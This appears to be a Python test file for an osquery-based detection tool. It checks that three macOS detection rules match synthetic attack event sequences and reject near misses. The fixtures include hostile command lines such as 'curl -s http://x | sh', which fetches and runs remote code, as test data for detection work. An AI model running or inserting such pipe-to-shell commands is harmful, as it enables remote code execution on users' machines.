"""Scenario stories for three real multi-event rules from the corpus: a true positive and a
near miss each, run through the rule's compiled pack SQL on osquery's SQLite (the same rows
the extension would serve; osqueryd itself cannot run here)."""

from __future__ import annotations

import json
import tomllib
from pathlib import Path
from typing import Any

from ecsquery.extension.ecs import iso_timestamp
from ecsquery.rules.compile import CompiledRule
from ecsquery.rules.model import Rule
from ecsquery.rules.sql.multi import compile_multi
from multi_support import NOW, Table

CORPUS = Path(__file__).parent / "fixtures" / "elastic-rules-multi"
TABLE = Table()
T0 = (NOW - 120) * 1000


def compiled(stem: str) -> CompiledRule:
    data = tomllib.loads((CORPUS / f"{stem}.toml").read_text("utf-8"))["rule"]
    return compile_multi(Rule.from_mapping(data, slug=stem), data)


def exec_event(i: int, ms: int, name: str, args: list[str], **process: Any) -> dict[str, Any]:
    return {
        "@timestamp": iso_timestamp(ms / 1000),
        "time": ms // 1000,
        "event": {"id": f"e{i}", "category": ["process"], "type": ["start"], "action": "exec"},
        "host": {"os": {"type": "macos"}},
        "process": {"name": name, "args": args, "args_count": len(args), **process},
    }


def osascript_then_shell(gap_ms: int) -> list[dict[str, Any]]:
    return [
        exec_event(1, T0, "osascript", ["osascript", "-e", "do shell script"], entity_id="OSA"),
        exec_event(
            2,
            T0 + gap_ms,
            "sh",
            ["sh", "-c", "curl -s http://x | sh"],
            command_line="sh -c curl -s http://x | sh",
            entity_id="SH",
            parent={"entity_id": "OSA"},
        ),
    ]


def test_apple_scripting_shell_true_positive_and_near_miss() -> None:
    sql = compiled("execution_shell_execution_via_apple_scripting").sql
    rows = TABLE.run(sql, osascript_then_shell(9_999), "osquery")
    assert [(r["event_id"], r["sequence_step"]) for r in rows] == [("e1", 1), ("e2", 2)]
    assert TABLE.run(sql, osascript_then_shell(10_001), "osquery") == []  # past maxspan=10s
    other_parent = osascript_then_shell(1_000)
    other_parent[1]["process"]["parent"] = {"entity_id": "SOMEONE"}
    assert TABLE.run(sql, other_parent, "osquery") == []  # the shell is not osascript's child


def test_curl_from_login_shell_true_positive_and_near_miss() -> None:
    sql = compiled("persistence_curl_execution_via_shell_profile").sql
    login = exec_event(1, T0, "zsh", ["-zsh"], entity_id="Z", parent={"name": "login"})
    curl = exec_event(
        2, T0 + 2_000, "curl", ["curl", "-o", "/tmp/x", "http://x"], parent={"entity_id": "Z"}
    )
    rows = TABLE.run(sql, [login, curl], "osquery")
    assert json.loads(rows[0]["sequence_id"]) == ["e1", "e2"]
    allowed = exec_event(
        2,
        T0 + 2_000,
        "curl",
        ["curl", "-o", "x", "https://artifacts.elastic.co/a"],
        parent={"entity_id": "Z"},
    )
    assert TABLE.run(sql, [login, allowed], "osquery") == []  # the rule's own exclusion


def test_ssh_bruteforce_threshold_twenty_not_nineteen() -> None:
    sql = compiled("credential_access_potential_macos_ssh_bruteforce").sql

    def wrappers(n: int) -> list[dict[str, Any]]:
        return [
            exec_event(
                i,
                T0 + i * 1000,
                "sshd-keygen-wrapper",
                ["sshd-keygen-wrapper"],
                parent={"name": "launchd"},
            )
            for i in range(n)
        ]

    (row,) = TABLE.run(sql, wrappers(20), "osquery")
    assert row["threshold_count"] == 20
    assert json.loads(row["threshold_terms"]) == [{"field": "host.id", "value": None}]
    assert TABLE.run(sql, wrappers(19), "osquery") == []
